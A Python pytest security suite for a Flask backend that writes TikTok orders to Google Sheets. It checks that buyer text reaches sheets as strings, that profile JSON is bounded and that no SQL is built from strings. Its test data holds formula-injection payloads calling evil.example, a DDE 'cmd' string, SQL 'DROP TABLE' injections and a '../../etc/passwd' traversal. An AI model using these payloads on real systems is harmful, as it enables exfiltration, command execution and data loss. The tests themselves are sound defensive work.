"""Injection: text reaches sheets only as text, profiles are checked and bounded, SQL is never built from strings."""

from __future__ import annotations

import ast
from datetime import datetime
from pathlib import Path

import pytest
from flask import Flask
from sqlalchemy import select
from sqlalchemy.orm import Session

from backend.domain.columns import Formula
from backend.domain.profiles import project
from backend.models import OrderLine
from backend.platforms.tiktok.mapping import text
from backend.sandbox.sheets import GoogleSandboxes
from backend.services import bindings
from backend.services.sheet_refresh import Pusher, push_dirty
from backend.sheets.writer import Backoff
from tests import factories
from tests.api.conftest import AUDIENCE, WRITER, Call
from tests.security.conftest import build_side

BACKEND = Path(__file__).resolve().parents[2] / "backend"
PAYLOADS = (
    '=IMPORTXML("http://evil.example/x","//a")',
    "+SUM(1,2)",
    "-1+cmd|' /C calc'!A0",
    '@HYPERLINK("http://evil.example","click")',
    "=1+1",
)


def own_formula_headers() -> set[str]:
    """Headers of the columns whose values the backend writes as formulas (from the projection itself)."""
    view = factories.order_view()
    found = set()
    for profile in bindings.builtin_profiles().values():
        try:
            rows = project(profile, [view], now=datetime.now(view.created_at.tzinfo), sheet_zone="UTC")
        except ValueError:
            continue  # a grain that is not made of orders
        for row in rows:
            found |= {c.header for c, v in zip(profile.columns, row.cells, strict=True) if isinstance(v, Formula)}
    return found


def test_every_text_a_buyer_or_member_controls_is_written_as_a_string_value(
    addon_app: Flask, google: GoogleSandboxes, session: Session
) -> None:
    side = build_side(session, "Acme", "acme.example", 3)
    order = side.orders[0]
    order.buyer_message, order.seller_note, order.recipient_name = PAYLOADS[0], PAYLOADS[1], PAYLOADS[2]
    for line in session.scalars(select(OrderLine).where(OrderLine.order_id == order.id)):
        line.product_name = PAYLOADS[3]
    side.case.fields = {**side.case.fields, "note": PAYLOADS[4]}
    side.shop.name = PAYLOADS[4]
    files = {}
    for profile, audience in (("customer_service", "support"), ("sla_watch", "warehouse"), ("agency_view", "viewer")):
        ss = google.sheets.create_spreadsheet(side.email("admin"), audience, sheets=["Sheet1"])
        google.sheets.share(ss.id, "writer", email=WRITER)
        bindings.bind(session, side.team, ss.id, profile, profile)
        files[profile] = ss.id
    session.commit()
    pusher = Pusher(
        addon_app.extensions["orderdeck.db"],
        addon_app.extensions["orderdeck.config"],
        addon_app.extensions["orderdeck.secrets"],
        backoff=Backoff(sleep=lambda _s: None),
        sharing_ttl=0,
    )
    for file_id in files.values():
        (result,) = push_dirty(pusher, file_id)
        assert not isinstance(result, Exception), result

    allowed = own_formula_headers()
    assert allowed, "the catalogue has a live countdown formula"
    strings: set[str] = set()
    for file_id in files.values():
        for sheet in google.sheets.spreadsheets[file_id].sheets:
            headers = {c: cell.get("userEnteredValue", {}).get("stringValue") for (r, c), cell in sheet.cells.items()
                       if r == 0}  # fmt: skip
            for (_row, c), cell in sheet.cells.items():
                entered = cell.get("userEnteredValue", {})
                if "formulaValue" in entered:
                    assert headers.get(c) in allowed, (headers.get(c), entered)
                strings.add(entered.get("stringValue", ""))
    assert {p for p in PAYLOADS if any(p in s for s in strings)} == set(PAYLOADS)  # each was written, as text


def profile(**overrides: object) -> dict[str, object]:
    return {"key": "custom_view", "audience_role": "viewer", "grain": "order", "columns": ["order_id"], **overrides}


def nested(depth: int) -> dict[str, object]:
    doc: dict[str, object] = {}
    for _ in range(depth):
        doc = {"filter": doc}
    return doc


OVERSIZED: dict[str, object] = {
    "over 64 KB": profile(description="x" * 70_000),
    "over 100 columns": profile(columns=[f"col_{n:03d}" for n in range(120)]),
    "deeply nested": profile(filter=nested(200)),
    "unknown top-level field": profile(script="=IMPORTXML()"),
    "unknown filter field": profile(filter={"sql": "1=1; DROP TABLE orders"}),
    "unknown sort field": profile(sort=[{"column": "order_id", "expr": "1"}]),
    "a column that is not a slug": profile(columns=["order_id); DROP TABLE orders; --"]),
    "a key that is not a slug": profile(key="../../etc/passwd"),
    "wrong types": profile(columns="order_id"),
    "not an object": ["order_id"],
}


@pytest.mark.parametrize("name", OVERSIZED)
def test_profile_json_is_schema_checked_and_bounded(call: Call, session: Session, name: str) -> None:
    side = build_side(session, "Acme", "acme.example", 3)
    session.commit()
    response = call("POST", "/addon/profiles", side.email("admin"), json=OVERSIZED[name])
    assert response.status_code == 400, response.get_json()
    assert set(response.get_json()["error"]) >= {"code", "message", "action"}
    assert call("POST", "/addon/profiles", side.email("admin"), json=profile()).status_code == 200  # the control


def test_a_body_nested_past_the_parsers_depth_is_a_400(
    addon_app: Flask, google: GoogleSandboxes, session: Session
) -> None:
    side = build_side(session, "Acme", "acme.example", 3)
    session.commit()
    token = google.identity.mint_id_token(AUDIENCE, side.email("admin"))
    client = addon_app.test_client()
    deep = "[" * 100_000 + "]" * 100_000
    for path in ("/addon/profiles", "/addon/edits", "/addon/bindings"):
        response = client.post(path, data=deep, content_type="application/json",
                               headers={"Authorization": f"Bearer {token}"})  # fmt: skip
        assert response.status_code == 400, (path, response.get_data(as_text=True)[:200])
        assert response.get_json()["error"]["code"]


def test_a_nul_character_an_overlong_address_or_an_id_past_32_bits_is_a_400_on_every_database(
    call: Call, session: Session
) -> None:
    side = build_side(session, "Acme", "acme.example", 3)
    session.commit()
    admin = side.email("admin")
    sheet = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdEf"
    requests = {
        "/addon/bindings": {
            "spreadsheet_id": sheet,
            "challenge": "0" * 15 + "\x00",
            "tab": "T",
            "profile": "sla_watch",
        },
        "/addon/bindings/remove": {"spreadsheet_id": sheet, "tab": "Ship\x00 next"},
        "/addon/profiles": profile() | {"title": "Ship\x00 next"},
    }
    for path, body in requests.items():
        response = call("POST", path, admin, json=body)
        assert response.status_code == 400, (path, response.get_data(as_text=True)[:300])
        assert "NUL" in response.get_json()["error"]["message"], path
    too_long = call("POST", "/addon/members", admin, json={"email": "a" * 400 + "@acme.example", "role": "viewer"})
    assert too_long.status_code == 400 and "254" in str(too_long.get_json()["error"]["detail"]["fields"]["email"])
    too_big = call("POST", "/addon/sync", admin, json={"shop_id": 2**31})  # past PostgreSQL's integer ids
    assert too_big.status_code == 400 and too_big.get_json()["error"]["detail"]["fields"] == {
        "shop_id": ["choose a shop from the list"]
    }


def test_nul_characters_from_tiktok_are_dropped_not_fatal() -> None:
    payload = {"buyer_message": "call me\x00 later", "seller_note": None}
    assert (text(payload, "buyer_message"), text(payload, "seller_note")) == ("call me later", "")


# The only SQL strings the backend runs itself: constants, not a character of input in them.
LITERAL_SQL = {
    "SELECT 1",
    "PRAGMA foreign_keys=ON",
    "PRAGMA journal_mode=WAL",
    "PRAGMA busy_timeout=30000",
    "PRAGMA synchronous=NORMAL",
    "SET LOCAL synchronous_commit TO OFF",
    "SET LOCAL lock_timeout = '1s'",
    "ALTER TABLE orders ALTER COLUMN raw SET STORAGE MAIN",
    "ALTER TABLE orders ALTER COLUMN raw SET COMPRESSION lz4",
    "ALTER TABLE orders ALTER COLUMN raw SET STORAGE EXTENDED",
    "ALTER TABLE orders ALTER COLUMN raw SET COMPRESSION DEFAULT",
    "ALTER TABLE orders ALTER COLUMN raw TYPE json USING raw::json",
    "ALTER TABLE after_sale_cases ALTER COLUMN raw TYPE json USING raw::json",
    "ALTER TABLE orders ALTER COLUMN raw TYPE jsonb USING raw::jsonb",
    "ALTER TABLE after_sale_cases ALTER COLUMN raw TYPE jsonb USING raw::jsonb",
}
SQL_CALLS = {"text", "execute", "exec_driver_sql"}


def _sql_text_imported(tree: ast.Module) -> bool:
    return any(
        isinstance(node, ast.ImportFrom) and (node.module or "").startswith("sqlalchemy")
        and any(alias.name == "text" for alias in node.names)
        for node in ast.walk(tree)
    )  # fmt: skip


def sql_strings(path: Path) -> list[str]:
    """Calls that hand SQL as a string to SQLAlchemy or a DB-API cursor, other than an allowed constant."""
    tree = ast.parse(path.read_text())
    text_is_sql = _sql_text_imported(tree)
    found = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call) or not node.args:
            continue
        func = node.func
        name = func.id if isinstance(func, ast.Name) else func.attr if isinstance(func, ast.Attribute) else ""
        if name not in SQL_CALLS:
            continue
        if name == "text" and not (
            (isinstance(func, ast.Name) and text_is_sql)
            or (
                isinstance(func, ast.Attribute)
                and isinstance(func.value, ast.Name)
                and func.value.id in ("sa", "sqlalchemy")
            )
        ):
            continue  # another text(), such as a CSV row's
        first = node.args[0]
        built = isinstance(first, ast.JoinedStr | ast.BinOp) or (
            isinstance(first, ast.Call) and isinstance(first.func, ast.Attribute) and first.func.attr == "format"
        )
        value = first.value if isinstance(first, ast.Constant) else None
        if built or (isinstance(value, str) and value not in LITERAL_SQL):
            found.append(f"{path.relative_to(BACKEND.parent)}:{node.lineno}: {ast.unparse(node)[:80]}")
    return found


def test_backend_builds_no_sql_from_strings() -> None:
    """SQL goes through SQLAlchemy expressions, which bind every value as a parameter."""
    found = [hit for path in sorted(BACKEND.rglob("*.py")) for hit in sql_strings(path)]
    assert not found, found
    assert sql_strings(BACKEND / "api" / "health.py") == []  # the scan reads the allowed SELECT 1 there
